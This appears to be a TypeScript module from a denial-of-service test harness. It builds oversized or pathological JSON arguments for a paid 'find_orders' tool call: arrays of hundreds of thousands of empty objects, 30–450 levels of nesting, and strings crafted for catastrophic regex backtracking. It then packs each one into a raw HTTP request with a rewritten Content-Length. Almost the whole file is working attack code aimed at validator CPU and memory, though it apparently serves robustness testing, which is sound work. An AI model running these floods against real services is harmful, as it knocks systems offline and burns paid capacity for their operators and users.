import type { Flood } from './attacker.ts';
import type { Era, Victim } from './victim.ts';

const mebibyte = 2 ** 20;
/** Room for the rest of a request. */
const most = mebibyte - 4_096;

const list = (item: string) =>
  `[${Array(Math.floor((most - 2) / (Buffer.byteLength(item) + 1))).fill(item)}]`;
const nested = (open: string, value: string, close: string, depth: number) =>
  open.repeat(depth) + value + close.repeat(depth);

/** A text without a period. */
function noise(characters: string, length: number): string {
  let state = 1;
  const next = () => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return characters[(state >>> 16) % characters.length];
  };
  return Array.from({ length }, next).join('');
}

/** Arguments of `find_orders` as JSON that a validator could compare for seconds, or that fill its memory. */
const demanding: readonly (readonly [name: string, sent: string, args: string])[] = [
  ['members are missing', '350,000 × {} for objects of 12 required members', `{"orders":${list('{}')}}`],
  ['optional members', '350,000 × {} for objects of 12 optional members', `{"drafts":${list('{}')}}`],
  ['no item fits', '350,000 × {} where one object of 12 members is required', `{"some":${list('{}')}}`],
  ['defaults', '350,000 × {} for objects of 12 defaults', `{"filled":${list('{}')}}`],
  [
    'recursive alternatives',
    '316 bytes: 30 levels of a recursive anyOf',
    `{"filter":${nested('{"not":', '0', '}', 30)}}`,
  ],
  [
    'lists in lists',
    '450 levels of lists with uniqueItems around 150,000 numbers',
    `{"unique":[${nested('[', `[${Array.from({ length: 150_000 }, (_, index) => index)}]`, ']', 450)},[],[]]}`,
  ],
  ['a costly pattern', '1 MiB for [ab]*a[ab]{1000}$', `{"code":"${noise('ab', most - 100)}"}`],
  [
    'a costly pattern, often',
    '6,500 texts for \\p{L}.{10}\\p{N}$',
    JSON.stringify({
      codes: Array.from(
        { length: 6_500 },
        (_, index) => `${noise('abcé019 ', 120 + index).slice(-120)}a01234567891`,
      ),
    }),
  ],
  [
    'a hundred lists',
    '350,000 × {} and a number for an anyOf of 100 lists of objects',
    `{"lists":${list('{}').slice(0, -1)},0]}`,
  ],
  ['a costly enum', '80,000 × {"index":999}, the last of 1,000', `{"kinds":${list('{"index":999}')}}`],
];

/** Scenarios of one paid call of at most 1 MiB each. */
export const argumentAttacks = demanding.map(([name, sent, args]) => ({
  name: `arguments: ${name}`,
  sent: `1 paid call: ${sent}`,
  limits: [],
  flood: async (victim: Victim, era: Era): Promise<Flood> => {
    const params = { name: 'find_orders', arguments: 'ARGUMENTS' };
    const text = victim.request(era, 'tools/call', params, await victim.paid());
    const [head = '', body = ''] = text.split('\r\n\r\n');
    const whole = body.replace('"ARGUMENTS"', () => args);
    const length = `Content-Length: ${Buffer.byteLength(whole)}`;
    return {
      connections: 1,
      parts: [[`${head.replace(/Content-Length: \d+/, length)}\r\n\r\n${whole}`, 1]],
    };
  },
}));
